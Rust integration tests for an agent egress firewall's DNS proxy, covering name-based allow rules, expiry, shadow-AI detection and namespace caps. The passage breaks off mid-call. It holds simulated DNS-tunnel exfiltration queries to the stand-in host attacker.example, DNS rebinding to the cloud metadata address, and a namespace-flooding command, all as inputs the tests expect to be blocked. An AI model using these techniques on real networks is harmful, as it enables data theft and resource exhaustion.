//! Name rules end to end: a real DNS server (aw-dns, hickory-proto) inside a network namespace
//! the test made, the real node (and its DNS proxy) in that namespace, and an agent launched
//! there whose own DNS queries decide which addresses it may reach.

use std::{
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use agentwall_tests::{
    DnsServer, NetNs, Probe, TestEnv, bin_path,
    node::{
        NodeProc, agentwall, eventually, launch_args, metric, run_json, status_json,
        wait_flow_where, wait_status, write_cert,
    },
    pki::{Ca, CertSpec},
};

const ID: &str = "spiffe://example.org/agent/dns";
const RESOLVER: &str = "192.0.2.53";
/// The same zone, also served over IPv6.
const RESOLVER6: &str = "2001:db8::53";

struct Lab {
    env: TestEnv,
    tmp: tempfile::TempDir,
    ns: NetNs,
    /// On RESOLVER and RESOLVER6.
    dns: Vec<DnsServer>,
    cert: PathBuf,
    key: PathBuf,
    flags: Vec<String>,
}

impl Lab {
    /// The namespace: the resolver's address on `lo`, 203.0.113.0/24 and 2001:db8::/64 local
    /// (so allowed connects reach a listener), nothing else.
    fn new(name: &str, policy: &str, zone: &serde_json::Value, flags: &[&str]) -> Self {
        let env = TestEnv::new(name);
        let tmp = tempfile::tempdir().unwrap();
        let dir = tmp.path();
        let ca = Ca::new("agentwall test CA");
        std::fs::create_dir(dir.join("policy")).unwrap();
        std::fs::write(dir.join("policy/agents.yaml"), policy).unwrap();
        std::fs::write(dir.join("ca.pem"), ca.pem()).unwrap();
        std::fs::write(dir.join("zone.json"), zone.to_string()).unwrap();
        std::fs::write(
            dir.join("resolv.conf"),
            format!("nameserver {RESOLVER}\noptions timeout:2 attempts:1\n"),
        )
        .unwrap();
        let ns = NetNs::new(name);
        ns.ip(&["addr", "add", &format!("{RESOLVER}/32"), "dev", "lo"]);
        ns.ip(&["route", "add", "local", "203.0.113.0/24", "dev", "lo"]);
        ns.ip(&["-6", "route", "add", "local", "2001:db8::/64", "dev", "lo"]);
        // nodad: usable at once (otherwise tentative until the kernel's address work runs, and
        // a server binding it a moment later can meet EADDRNOTAVAIL).
        ns.ip(&[
            "-6",
            "addr",
            "add",
            &format!("{RESOLVER6}/128"),
            "dev",
            "lo",
            "nodad",
        ]);
        let dns = vec![
            DnsServer::start(&ns, &format!("{RESOLVER}:53"), &dir.join("zone.json")),
            DnsServer::start(&ns, &format!("[{RESOLVER6}]:53"), &dir.join("zone.json")),
        ];
        let (cert, key) = write_cert(dir, "agent", &ca.issue(&CertSpec::agent(ID)));
        let mut all: Vec<String> = vec![
            "--dns-upstream".into(),
            format!("{RESOLVER}:53"),
            "--dns-timeout-ms".into(),
            "500".into(),
            "--audit-log".into(),
            dir.join("audit.jsonl").display().to_string(),
        ];
        all.extend(flags.iter().map(ToString::to_string));
        Self {
            env,
            tmp,
            ns,
            dns,
            cert,
            key,
            flags: all,
        }
    }

    fn dir(&self) -> &Path {
        self.tmp.path()
    }

    fn node(&self) -> NodeProc {
        let flags: Vec<&str> = self.flags.iter().map(String::as_str).collect();
        NodeProc::start_in(&self.env, self.dir(), &flags, &[], Some(&self.ns))
    }

    /// The agent, launched under its identity inside the namespace, with the namespace's
    /// resolver in its own /etc/resolv.conf.
    fn agent(&self, node: &NodeProc) -> Probe {
        let mut c = launch_args(&node.socket, &self.cert, &self.key);
        self.ns.enter(&mut c);
        c.arg(bin_path("aw-probe"))
            .arg("--resolv-conf")
            .arg(self.dir().join("resolv.conf"));
        let mut p = Probe::from_command(c);
        assert_eq!(p.cmd("listen tcp :: 443"), "ok");
        p
    }

    fn audit(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(self.dir().join("audit.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

fn resolve(p: &mut Probe, name: &str, mode: &str, ty: &str) -> String {
    p.cmd(&format!("resolve {name} {RESOLVER} {mode} {ty}"))
}

fn connect(p: &mut Probe, ip: &str, port: u16) -> String {
    p.cmd(&format!("connect tcp {ip} {port}"))
}

fn a(name: &str, ip: &str) -> serde_json::Value {
    serde_json::json!({ "name": name, "type": "A", "value": ip })
}

/// The metrics page, fetched from inside the namespace (the node listens on its loopback).
fn scrape(ns: &NetNs, addr: &str) -> prometheus_parse::Scrape {
    agentwall_tests::node::scrape_in(ns, addr.parse().unwrap())
}

const POLICY: &str = "\
kind: AgentPolicy
name: dns
identity: spiffe://example.org/agent/dns
# Names it may look up without reaching them, and the test server's odd answers.
dns:
  resolve: [one.example.com, \"**.one.example.com\", any.example.com, unknown-llm.example.net,
            evil.example.org, bad.example.com, slow.example.com]
egress:
  - to: [api.example.com, chain.example.com, big.example.com, mis.example.com]
    ports: [443]
    protocol: tcp
  - to: [\"*.one.example.com\"]
    ports: [443]
    protocol: tcp
  - to: [\"**.any.example.com\"]
    ports: [443]
    protocol: tcp
  - to: [many.example.com]
    ports: [443]
    protocol: tcp
";

#[test]
fn names_allow_exactly_the_addresses_the_agent_resolved() {
    let mut records = vec![
        a("api.example.com", "203.0.113.10"),
        serde_json::json!({ "name": "api.example.com", "type": "AAAA", "value": "2001:db8::10" }),
        a("x.one.example.com", "203.0.113.11"),
        a("a.b.one.example.com", "203.0.113.12"),
        a("one.example.com", "203.0.113.13"),
        a("a.b.any.example.com", "203.0.113.14"),
        a("any.example.com", "203.0.113.15"),
        a("unknown-llm.example.net", "203.0.113.7"),
        a("evil.example.org", "203.0.113.20"),
        a("shared.one.example.com", "203.0.113.20"),
        serde_json::json!({ "name": "chain.example.com", "type": "CNAME", "value": "edge.cdn.example.net" }),
        a("edge.cdn.example.net", "203.0.113.30"),
        a("big.example.com", "203.0.113.40"),
        a("big.example.com", "203.0.113.41"),
        a("big.example.com", "203.0.113.42"),
        a("mis.example.com", "203.0.113.60"),
        a("meta.one.example.com", "169.254.169.254"),
        a("v6.one.example.com", "203.0.113.16"),
        serde_json::json!({ "name": "v6.one.example.com", "type": "AAAA", "value": "2001:db8::16" }),
        a("local.one.example.com", "127.0.0.1"),
    ];
    for i in 50..58 {
        records.push(a("many.example.com", &format!("203.0.113.{i}")));
    }
    let zone = serde_json::json!({
        "records": records,
        "truncate": ["big.example.com"],
        "garbage": ["bad.example.com"],
        "mismatch": ["mis.example.com"],
        "silent": ["slow.example.com"],
    });
    let lab = Lab::new(
        "dns-match",
        POLICY,
        &zone,
        &[
            "--dns-max-addresses",
            "4",
            "--metrics-listen",
            "127.0.0.1:9464",
        ],
    );
    let node = lab.node();
    let mut p = lab.agent(&node);

    // Nothing is allowed before the agent asks.
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "err EPERM");
    assert_eq!(
        resolve(&mut p, "api.example.com", "udp", "A"),
        "ok 203.0.113.10"
    );
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "ok");
    assert_eq!(
        connect(&mut p, "203.0.113.10", 80),
        "err EPERM",
        "the rule's ports"
    );
    assert_eq!(
        resolve(&mut p, "API.Example.COM.", "tcp", "AAAA"),
        "ok 2001:db8::10"
    );
    assert_eq!(connect(&mut p, "2001:db8::10", 443), "ok");

    // `*.` is exactly one label, `**.` any depth; neither is the apex.
    for (name, ip, want) in [
        ("x.one.example.com", "203.0.113.11", "ok"),
        ("a.b.one.example.com", "203.0.113.12", "err EPERM"),
        ("one.example.com", "203.0.113.13", "err EPERM"),
        ("a.b.any.example.com", "203.0.113.14", "ok"),
        ("any.example.com", "203.0.113.15", "err EPERM"),
    ] {
        assert_eq!(resolve(&mut p, name, "udpu", "A"), format!("ok {ip}"));
        assert_eq!(connect(&mut p, ip, 443), want, "{name}");
    }

    // A name no rule allows is answered, and its address stays denied; the record says
    // which name the agent asked for.
    assert_eq!(
        resolve(&mut p, "unknown-llm.example.net", "udp", "A"),
        "ok 203.0.113.7"
    );
    assert_eq!(connect(&mut p, "203.0.113.7", 443), "err EPERM");
    let denied = wait_flow_where(&node.socket, "deny", |r| r["dest"] == "203.0.113.7");
    assert_eq!(denied["fqdn"], "unknown-llm.example.net");
    let text = Command::new(bin_path("agentwall"))
        .args(["flows", "--verdict", "deny", "--socket"])
        .arg(&node.socket)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("-> unknown-llm.example.net (203.0.113.7):443/tcp"),
        "{text}"
    );

    // One address, two names: the denied name allows nothing, the allowed one allows it.
    assert_eq!(
        resolve(&mut p, "evil.example.org", "udp", "A"),
        "ok 203.0.113.20"
    );
    assert_eq!(connect(&mut p, "203.0.113.20", 443), "err EPERM");
    assert_eq!(
        resolve(&mut p, "shared.one.example.com", "udp", "A"),
        "ok 203.0.113.20"
    );
    assert_eq!(connect(&mut p, "203.0.113.20", 443), "ok");

    // An IPv6 resolver is steered the same way, connected, unconnected and over TCP.
    for (mode, ty, ip) in [
        ("udp", "A", "203.0.113.16"),
        ("udpu", "A", "203.0.113.16"),
        ("tcp", "AAAA", "2001:db8::16"),
    ] {
        assert_eq!(
            p.cmd(&format!(
                "resolve v6.one.example.com {RESOLVER6} {mode} {ty}"
            )),
            format!("ok {ip}"),
            "{mode} {ty}"
        );
    }
    assert_eq!(connect(&mut p, "203.0.113.16", 443), "ok");
    assert_eq!(connect(&mut p, "2001:db8::16", 443), "ok");

    // DNS rebinding: an allowed name answering the metadata service or loopback opens
    // neither (the first would be ENETUNREACH here if allowed, the second "ok").
    assert_eq!(
        resolve(&mut p, "meta.one.example.com", "udp", "A"),
        "ok 169.254.169.254"
    );
    assert_eq!(connect(&mut p, "169.254.169.254", 443), "err EPERM");
    assert_eq!(
        resolve(&mut p, "local.one.example.com", "udp", "A"),
        "ok 127.0.0.1"
    );
    assert_eq!(connect(&mut p, "127.0.0.1", 443), "err EPERM");
    let refused: Vec<String> = lab
        .audit()
        .into_iter()
        .filter(|r| r["kind"] == "dns" && r["event"] == "refused")
        .map(|r| format!("{} {}", r["name"], r["why"]))
        .collect();
    assert_eq!(
        refused,
        [
            "\"meta.one.example.com\" \"on the global deny list\"",
            "\"local.one.example.com\" \"loopback, link-local, multicast or unspecified address\""
        ]
    );

    // A CNAME chain: the asked name's rule covers the address at the end of the chain.
    assert_eq!(
        resolve(&mut p, "chain.example.com", "udp", "A"),
        "ok 203.0.113.30"
    );
    assert_eq!(connect(&mut p, "203.0.113.30", 443), "ok");

    // Truncated over UDP, complete over TCP, as a stub resolver retries.
    assert_eq!(resolve(&mut p, "big.example.com", "udp", "A"), "tc");
    assert_eq!(connect(&mut p, "203.0.113.41", 443), "err EPERM");
    assert_eq!(
        resolve(&mut p, "big.example.com", "auto", "A"),
        "ok 203.0.113.40,203.0.113.41,203.0.113.42"
    );
    assert_eq!(connect(&mut p, "203.0.113.41", 443), "ok");

    // Addresses per name are capped: the first four are allowed, the rest stay denied and a
    // record says so.
    let many = resolve(&mut p, "many.example.com", "udp", "A");
    assert_eq!(many.matches("203.0.113.5").count(), 8, "{many}");
    assert_eq!(connect(&mut p, "203.0.113.53", 443), "ok");
    assert_eq!(connect(&mut p, "203.0.113.54", 443), "err EPERM");
    let cap = lab
        .audit()
        .into_iter()
        .find(|r| r["kind"] == "dns" && r["event"] == "cap")
        .expect("a cap record");
    assert_eq!(cap["name"], "many.example.com");
    assert_eq!(cap["refused"].as_array().unwrap().len(), 4);
    let learned = lab
        .audit()
        .into_iter()
        .find(|r| r["kind"] == "dns" && r["event"] == "learned" && r["name"] == "api.example.com")
        .expect("a learned record");
    assert_eq!(learned["identity"], ID);

    // Hostile upstream answers: a reply with the wrong id is dropped and the right one used;
    // a compression loop and silence end in SERVFAIL; the proxy keeps serving.
    assert_eq!(
        resolve(&mut p, "mis.example.com", "udp", "A"),
        "ok 203.0.113.60"
    );
    assert_eq!(connect(&mut p, "203.0.113.60", 443), "ok");
    assert_eq!(
        resolve(&mut p, "bad.example.com", "udp", "A"),
        "rcode ServFail"
    );
    assert_eq!(
        resolve(&mut p, "slow.example.com", "udp", "A"),
        "rcode ServFail"
    );
    // Hostile queries from the agent are dropped and counted.
    assert_eq!(p.cmd(&format!("dns-garbage {RESOLVER}")), "sent");

    // glibc's own resolver (connected UDP, A and AAAA at once, reply address checked).
    assert_eq!(p.cmd("gai api.example.com"), "ok 203.0.113.10,2001:db8::10");

    let m = scrape(&lab.ns, "127.0.0.1:9464");
    let dropped = |r| metric(&m, "agentwall_dns_dropped_total", &[("reason", r)]);
    assert_eq!(dropped("mismatched_response"), 1.0);
    assert_eq!(dropped("malformed_response"), 1.0);
    assert_eq!(dropped("malformed_query"), 1.0);
    assert_eq!(dropped("oversized_query"), 1.0);
    assert_eq!(
        metric(&m, "agentwall_dns_upstream_failures_total", &[]),
        2.0
    );
    assert_eq!(
        metric(&m, "agentwall_dns_addresses_refused_total", &[]),
        6.0
    );
    assert!(metric(&m, "agentwall_dns_learned_addresses", &[]) >= 12.0);
    assert!(metric(&m, "agentwall_dns_queries_total", &[("transport", "tcp")]) >= 2.0);
    let s = status_json(&node.socket);
    assert_eq!(s["dns"]["port"], 15053);
    assert!(s["dns"]["error"].is_null(), "{s}");
}

#[test]
fn learned_addresses_expire_survive_restarts_and_fail_closed() {
    let policy = "\
kind: AgentPolicy
name: dns
identity: spiffe://example.org/agent/dns
egress:
  - to: [api.example.com, short.example.com]
    ports: [443]
    protocol: tcp
";
    let zone = serde_json::json!({ "records": [
        a("api.example.com", "203.0.113.10"),
        { "name": "short.example.com", "type": "A", "value": "203.0.113.40", "ttl": 1 },
    ]});
    let mut lab = Lab::new(
        "dns-life",
        policy,
        &zone,
        &["--dns-grace-secs", "1", "--dns-min-ttl-secs", "0"],
    );
    let node = lab.node();
    let mut p = lab.agent(&node);

    // TTL 1 s + grace 1 s: new connections are cut after that, the open one is not.
    assert_eq!(
        resolve(&mut p, "short.example.com", "udp", "A"),
        "ok 203.0.113.40"
    );
    assert_eq!(p.cmd("hold tcp 203.0.113.40 443"), "ok");
    let deadline = agentwall_tests::deadline(Duration::from_secs(15));
    while connect(&mut p, "203.0.113.40", 443) == "ok" {
        assert!(Instant::now() < deadline, "learned address never expired");
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(connect(&mut p, "203.0.113.40", 443), "err EPERM");
    assert_eq!(p.cmd("held"), "alive=1 closed=0");
    // Asking again allows it again.
    assert_eq!(
        resolve(&mut p, "short.example.com", "udp", "A"),
        "ok 203.0.113.40"
    );
    assert_eq!(connect(&mut p, "203.0.113.40", 443), "ok");

    assert_eq!(
        resolve(&mut p, "api.example.com", "udp", "A"),
        "ok 203.0.113.10"
    );
    // The learned file is written on the node's next tick.
    let learned = lab.dir().join("state/dns-learned.json");
    let deadline = agentwall_tests::deadline(Duration::from_secs(10));
    while !std::fs::read_to_string(&learned)
        .unwrap_or_default()
        .contains("api.example.com")
    {
        assert!(Instant::now() < deadline, "learned addresses not saved");
        std::thread::sleep(Duration::from_millis(50));
    }

    // Node down: DNS fails closed, learned addresses keep their deadline.
    assert_eq!(node.stop(), 0);
    assert_eq!(
        resolve(&mut p, "api.example.com", "udp", "A"),
        "err ECONNREFUSED"
    );
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "ok");

    // Restarted: the policy is applied again with what was learned, so the address stays
    // allowed without asking again.
    let node = lab.node();
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "ok");
    assert_eq!(
        resolve(&mut p, "api.example.com", "udp", "A"),
        "ok 203.0.113.10"
    );

    // Upstream down: SERVFAIL, and what was learned stays until its deadline.
    lab.dns.clear();
    assert_eq!(
        resolve(&mut p, "api.example.com", "udp", "A"),
        "rcode ServFail"
    );
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "ok");

    // A policy without the name: its learned addresses go with it. (The revision is read
    // before the edit: the node may apply it before a later read.)
    let before = status_json(&node.socket)["revision"].clone();
    std::fs::write(
        lab.dir().join("policy/agents.yaml"),
        policy.replace("api.example.com, ", ""),
    )
    .unwrap();
    wait_status(&node.socket, "the new revision", |s| {
        s["revision"] != before
    });
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "err EPERM");
}

#[test]
fn an_unenrolled_process_reaching_an_ai_service_shows_up_as_shadow_ai() {
    let zone = serde_json::json!({ "records": [
        a("api.openai.com", "203.0.113.80"),
        a("api.anthropic.com", "203.0.113.81"),
        a("llm.corp.example", "203.0.113.82"),
    ]});
    let tmp_cfg = tempfile::tempdir().unwrap();
    let cfg = tmp_cfg.path().join("node.toml");
    std::fs::write(
        &cfg,
        "[[ai_catalog]]\nservice = \"Internal LLM\"\nnames = [\"llm.corp.example\"]\n",
    )
    .unwrap();
    let policy = "\
kind: AgentPolicy
name: dns
identity: spiffe://example.org/agent/dns
egress:
  - to: [192.0.2.1]
    ports: [443]
";
    let lab = Lab::new(
        "shadow",
        policy,
        &zone,
        &[
            "--config",
            cfg.to_str().unwrap(),
            "--catalog-refresh-secs",
            "300",
            "--aggregate-window-secs",
            "1",
        ],
    );
    let node = lab.node();
    // The node resolves the catalog's names through its upstream when it starts.
    wait_status(&node.socket, "catalog addresses", |s| {
        s["catalog"]["addresses"].as_u64() >= Some(3)
    });

    // A process nobody enrolled, in the node's subtree and namespace.
    let rogue = lab.env.cgroup("rogue");
    let mut c = Command::new(bin_path("aw-probe"));
    c.args(["--cgroup", rogue.path().to_str().unwrap()]);
    lab.ns.enter(&mut c);
    let mut p = Probe::from_command(c);
    for _ in 0..3 {
        assert_eq!(connect(&mut p, "203.0.113.80", 443), "err ECONNREFUSED");
    }
    assert_eq!(connect(&mut p, "203.0.113.82", 8443), "err ECONNREFUSED");
    assert_eq!(connect(&mut p, "203.0.113.99", 443), "err ECONNREFUSED");

    let audit = lab.dir().join("audit.jsonl");
    let deadline = agentwall_tests::deadline(Duration::from_secs(20));
    let groups = loop {
        let v = run_json(
            agentwall()
                .args(["shadow-ai", "--output", "json", "--audit-log"])
                .arg(&audit),
        );
        let counts: Vec<(String, u64)> = v[0]["services"]
            .as_array()
            .map(|a| {
                a.iter()
                    .map(|s| {
                        (
                            s["service"].as_str().unwrap().to_owned(),
                            s["count"].as_u64().unwrap(),
                        )
                    })
                    .collect()
            })
            .unwrap_or_default();
        if counts == [("Internal LLM".to_owned(), 1), ("OpenAI".to_owned(), 3)] {
            break v;
        }
        assert!(Instant::now() < deadline, "shadow-ai says {v}");
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(groups.as_array().unwrap().len(), 1, "{groups}");
    let g = &groups[0];
    assert_eq!(
        g["group"],
        format!("exe {} (uid 0)", bin_path("aw-probe").display())
    );
    assert_eq!(g["services"][1]["destinations"][0], "203.0.113.80:443");
    let suggested = g["suggested_policy"].as_str().unwrap();
    assert!(
        suggested.contains("  - to: [203.0.113.80]\n    ports: [\"443\"]\n    protocol: tcp\n"),
        "{suggested}"
    );
    // The flow to an address outside the catalog is an unknown flow, not shadow AI.
    let text = Command::new(bin_path("agentwall"))
        .args(["flows", "--verdict", "unknown", "--socket"])
        .arg(&node.socket)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("-> 203.0.113.80:443/tcp [OpenAI]"), "{text}");
    assert!(
        text.contains("-> 203.0.113.99:443/tcp\n") || text.ends_with("-> 203.0.113.99:443/tcp"),
        "{text}"
    );
}

/// A free loopback port for UDP and TCP alike (bound and released; good enough for a test).
fn free_port() -> u16 {
    loop {
        let u = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = u.local_addr().unwrap().port();
        if std::net::TcpListener::bind(("127.0.0.1", port)).is_ok() {
            return port;
        }
    }
}

#[test]
fn agents_in_their_own_network_namespace_get_a_proxy_there() {
    let _unroute = agentwall_tests::ProxyRouteGuard::new();
    let env = TestEnv::new("dns-netns");
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let ca = Ca::new("agentwall test CA");
    std::fs::create_dir(dir.join("policy")).unwrap();
    std::fs::write(
        dir.join("policy/agents.yaml"),
        "kind: AgentPolicy\nname: dns\nidentity: spiffe://example.org/agent/dns\negress:\n  - to: [api.example.com]\n    ports: [443]\n    protocol: tcp\n",
    )
    .unwrap();
    std::fs::write(dir.join("ca.pem"), ca.pem()).unwrap();
    std::fs::write(
        dir.join("zone.json"),
        serde_json::json!({ "records": [a("api.example.com", "203.0.113.10")] }).to_string(),
    )
    .unwrap();
    // The node and its upstream on this host's loopback; the agent in a namespace of its own
    // (a container, say), whose resolver address exists nowhere: steering makes it work.
    let upstream = format!("127.0.0.1:{}", free_port());
    let _dns = DnsServer::start_in(None, &upstream, &dir.join("zone.json"));
    let proxy_port = free_port().to_string();
    let audit = dir.join("audit.jsonl");
    let node = NodeProc::start_in(
        &env,
        dir,
        &[
            "--dns-upstream",
            &upstream,
            "--dns-listen-port",
            &proxy_port,
            "--audit-log",
            audit.to_str().unwrap(),
        ],
        &[],
        None,
    );
    let ns = NetNs::new("dns-ctr");
    ns.ip(&["route", "add", "local", "203.0.113.0/24", "dev", "lo"]);
    let (cert, key) = write_cert(dir, "agent", &ca.issue(&CertSpec::agent(ID)));
    let mut c = launch_args(&node.socket, &cert, &key);
    ns.enter(&mut c);
    c.arg(bin_path("aw-probe"));
    let mut p = Probe::from_command(c);
    assert_eq!(p.cmd("listen tcp :: 443"), "ok");
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "err EPERM");
    assert_eq!(
        resolve(&mut p, "api.example.com", "udp", "A"),
        "ok 203.0.113.10"
    );
    assert_eq!(
        p.cmd("resolve api.example.com 198.51.100.53 tcp A"),
        "ok 203.0.113.10"
    );
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "ok");
    let s = status_json(&node.socket);
    assert!(s["dns"]["error"].is_null(), "{s}");

    // An agent that makes 500 network namespaces (unprivileged, in user namespaces) gets a
    // proxy in at most 16 of them (the per-identity cap); the node's descriptors stay bounded
    // and it goes on serving.
    let fds = |pid: u32| {
        std::fs::read_dir(format!("/proc/{pid}/fd"))
            .unwrap()
            .count()
    };
    let before = fds(node.child.id());
    assert_eq!(
        p.cmd("spawn-many 500 setpriv --reuid=65534 --regid=65534 --clear-groups unshare -Urn sleep 600"),
        "spawned 500"
    );
    // Generous: on an emulated kernel (the matrix) 500 namespaces take a while to appear.
    let capped = eventually("the namespace cap record", Duration::from_secs(120), || {
        let n = std::fs::read_to_string(&audit)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|r| r["kind"] == "dns" && r["event"] == "namespace_cap")
            .count();
        if n >= 400 {
            Ok(n)
        } else {
            // Whether the namespaces are there at all (an `unshare` that fails exits).
            Err(format!(
                "{n} namespaces refused so far; the agent's children: {}",
                p.cmd("children")
            ))
        }
    });
    assert!(capped <= 500, "{capped}");
    let after = fds(node.child.id());
    assert!(
        after <= before + 16 * 4 + 16,
        "the node went from {before} to {after} open files"
    );
    let s = status_json(&node.socket);
    assert!(
        s["dns"]["error"]
            .as_str()
            .is_some_and(|e| e.contains("get no DNS proxy (caps: 16 per identity, 256 in all)")),
        "{s}"
    );
    // Still serving: the agent's own namespace keeps its proxy.
    assert_eq!(
        resolve(&mut p, "api.example.com", "udp", "A"),
        "ok 203.0.113.10"
    );
}

/// DNS is policy: a query leaves the host only when one of the identity's name rules or its
/// `dns.resolve` list allows the name, and only for the query types that lead to addresses
/// (plus those `dns.types` lists). Everything else is answered REFUSED by the proxy, and the
/// upstream (a real dnsmasq, whose query log is the evidence) never sees it. A DNS tunnel
/// (TXT queries for `<data>.attacker.example`) goes nowhere, and every refusal is counted.
#[test]
fn only_names_and_types_the_policy_allows_leave_the_host() {
    let policy = "\
kind: AgentPolicy
name: names
identity: spiffe://example.org/agent/names
owner: research@example.com
labels:
  team: research
dns:
  resolve: [\"*.internal.example\"]
  types: [TXT]
egress:
  - to: [api.example.com]
    ports: [443]
    protocol: tcp
---
kind: AgentPolicy
name: plain
identity: spiffe://example.org/agent/plain
egress:
  - to: [192.0.2.0/24]
    ports: [53, 443]
---
kind: AgentPolicy
name: watcher
identity: spiffe://example.org/agent/watcher
mode: audit
egress:
  - to: [api.example.com]
    ports: [443]
    protocol: tcp
";
    let env = TestEnv::new("dns-policy");
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let ca = Ca::new("agentwall test CA");
    std::fs::create_dir(dir.join("policy")).unwrap();
    std::fs::write(dir.join("policy/agents.yaml"), policy).unwrap();
    std::fs::write(dir.join("ca.pem"), ca.pem()).unwrap();
    let ns = NetNs::new("dns-policy");
    ns.ip(&["addr", "add", &format!("{RESOLVER}/32"), "dev", "lo"]);
    ns.ip(&["route", "add", "local", "203.0.113.0/24", "dev", "lo"]);
    let upstream = agentwall_tests::Dnsmasq::start(
        &ns,
        RESOLVER,
        &[
            ("api.example.com", "203.0.113.10"),
            ("db.internal.example", "203.0.113.20"),
            ("other.example.org", "203.0.113.30"),
        ],
        &[("api.example.com", "v=spf1 -all")],
        dir,
    );
    let audit = dir.join("audit.jsonl");
    let metrics = "127.0.0.1:9464";
    let node = NodeProc::start_in(
        &env,
        dir,
        &[
            "--dns-upstream",
            &format!("{RESOLVER}:53"),
            "--audit-log",
            audit.to_str().unwrap(),
            "--metrics-listen",
            metrics,
        ],
        &[],
        Some(&ns),
    );
    let agent = |id: &str, name: &str| -> Probe {
        let (cert, key) = write_cert(dir, name, &ca.issue(&CertSpec::agent(id)));
        let mut c = launch_args(&node.socket, &cert, &key);
        ns.enter(&mut c);
        c.arg(bin_path("aw-probe"));
        Probe::from_command(c)
    };
    let mut names = agent("spiffe://example.org/agent/names", "names");
    let mut plain = agent("spiffe://example.org/agent/plain", "plain");
    let mut watcher = agent("spiffe://example.org/agent/watcher", "watcher");

    // What the policy allows goes out and comes back.
    assert_eq!(
        resolve(&mut names, "api.example.com", "udp", "A"),
        "ok 203.0.113.10"
    );
    assert_eq!(resolve(&mut names, "api.example.com", "tcp", "TXT"), "ok");
    assert_eq!(connect(&mut names, "203.0.113.10", 443), "err ECONNREFUSED");
    // A name dns.resolve lists resolves, and connecting to it stays denied.
    assert_eq!(
        resolve(&mut names, "db.internal.example", "udp", "A"),
        "ok 203.0.113.20"
    );
    assert_eq!(connect(&mut names, "203.0.113.20", 443), "err EPERM");
    // A tunnel: names and types the policy does not allow are refused, over UDP and TCP.
    for (name, mode, ty) in [
        ("6578666976.attacker.example", "udp", "TXT"),
        ("6578666977.attacker.example", "tcp", "TXT"),
        ("6578666978.attacker.example", "udp", "A"),
        ("api.example.com", "udp", "MX"),
        ("other.example.org", "udp", "A"),
    ] {
        assert_eq!(
            resolve(&mut names, name, mode, ty),
            "rcode Refused",
            "{name} {ty} over {mode}"
        );
    }
    // An identity with no name rules and no dns section resolves nothing, even though its
    // rules would reach the resolver itself: its DNS goes to the proxy too.
    assert_eq!(
        resolve(&mut plain, "api.example.com", "udp", "A"),
        "rcode Refused"
    );
    assert_eq!(
        resolve(&mut plain, "api.example.com", "tcp", "A"),
        "rcode Refused"
    );
    // In audit mode a name that would be refused is resolved, and recorded.
    assert_eq!(
        resolve(&mut watcher, "other.example.org", "udp", "A"),
        "ok 203.0.113.30"
    );
    // A burst of tunnel queries: every one refused and counted, a few records written.
    let burst = 300;
    let burst_started = std::time::Instant::now();
    for i in 0..burst {
        assert_eq!(
            resolve(
                &mut names,
                &format!("c{i:04}.attacker.example"),
                "udp",
                "TXT"
            ),
            "rcode Refused"
        );
    }

    // The upstream saw the allowed queries and the audit-mode one, nothing else.
    let seen = upstream.queries();
    for want in [
        "query[A] api.example.com",
        "query[TXT] api.example.com",
        "query[A] db.internal.example",
        "query[A] other.example.org",
    ] {
        assert!(
            seen.iter().any(|l| l.contains(want)),
            "{want} not in {seen:#?}"
        );
    }
    assert!(
        !seen
            .iter()
            .any(|l| l.contains("attacker.example") || l.contains("query[MX]")),
        "{seen:#?}"
    );
    assert_eq!(seen.len(), 4, "{seen:#?}");

    // Every refusal is on record, with what, why and how many.
    let records = |event: &str| -> Vec<serde_json::Value> {
        std::fs::read_to_string(&audit)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|r| r["kind"] == "dns" && r["event"] == event)
            .collect()
    };
    let total = eventually("every refusal counted", Duration::from_secs(10), || {
        let refused = records("query_refused");
        let total: u64 = refused.iter().map(|r| r["count"].as_u64().unwrap()).sum();
        if total == 5 + 2 + burst {
            Ok(refused)
        } else {
            Err(format!("{total} counted"))
        }
    });
    // At most 20 records a second per identity (plus the window the burst straddles), however
    // long the burst took on this machine.
    let limit = 20.0 * (burst_started.elapsed().as_secs_f64() + 2.0);
    assert!(
        (total.len() as f64) < limit,
        "{} records for {} refusals (limit {limit:.0})",
        total.len(),
        5 + 2 + burst
    );
    let txt = total
        .iter()
        .find(|r| r["name"] == "6578666976.attacker.example")
        .expect("the first tunnel query is a record of its own");
    assert_eq!(txt["identity"], "spiffe://example.org/agent/names");
    assert_eq!(txt["owner"], "research@example.com");
    assert_eq!(txt["labels"]["team"], "research");
    assert_eq!(txt["type"], "TXT");
    assert_eq!(
        txt["why"],
        "no name rule or dns.resolve entry allows the name"
    );
    let mx = total.iter().find(|r| r["type"] == "MX").unwrap();
    assert_eq!(mx["why"], "query type MX is not allowed (dns.types)");
    assert!(
        total
            .iter()
            .any(|r| r["identity"] == "spiffe://example.org/agent/plain")
    );
    let would = records("query_would_refuse");
    assert_eq!(would.len(), 1, "{would:#?}");
    assert_eq!(would[0]["identity"], "spiffe://example.org/agent/watcher");
    assert_eq!(would[0]["name"], "other.example.org");
    assert_eq!(would[0].get("owner"), None, "the watcher names no owner");
    let m = scrape(&ns, metrics);
    assert_eq!(
        metric(&m, "agentwall_dns_queries_refused_total", &[]) as u64,
        5 + 2 + burst
    );
    // What audit mode saw is what `policy suggest` proposes to resolve.
    let out = agentwall()
        .args([
            "policy",
            "suggest",
